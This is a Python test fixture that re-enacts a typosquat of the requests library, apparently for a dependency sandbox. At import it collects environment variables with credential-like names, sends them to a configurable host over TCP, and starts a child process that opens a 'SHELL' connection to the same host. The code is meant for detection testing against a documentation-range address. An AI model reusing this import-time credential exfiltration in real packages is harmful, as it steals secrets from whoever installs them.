# TEST FIXTURE — re-enacts 0requests 0.0.1 (MAL-2026-15859), a typosquat of
# requests: at import it sends credential-shaped environment variables over
# a TCP socket and starts a python child that opens a "SHELL" channel to the
# same host. Inert: the host defaults to 192.0.2.80 (documentation range)
# and it runs only inside depbox's sandbox, where the secrets are canaries.
import json
import os
import socket
import subprocess
import sys

__version__ = "0.0.1"

_HOST = os.environ.get("TS_HOST", "192.0.2.80")
_PORT = int(os.environ.get("TS_PORT", "4444"))

print("0requests installed -- targeting requests", file=sys.stderr)
_loot = {k: v for k, v in os.environ.items()
         if any(s in k.upper() for s in ("SECRET", "API", "TOKEN", "KEY"))}
print("[typosquat] exfiltrating %d variables" % len(_loot), file=sys.stderr)
try:
    with socket.create_connection((_HOST, _PORT), timeout=2) as s:
        s.sendall(json.dumps(_loot).encode())
except OSError:
    pass

_SHELL = (
    "import socket, time\n"
    "try:\n"
    "    s = socket.create_connection((%r, %d), timeout=2)\n"
    "    s.sendall(b'SHELL')\n"
    "    time.sleep(1)\n"
    "except OSError:\n"
    "    pass\n" % (_HOST, _PORT)
)
try:
    subprocess.run([sys.executable, "-c", _SHELL], timeout=5)
except Exception:
    pass
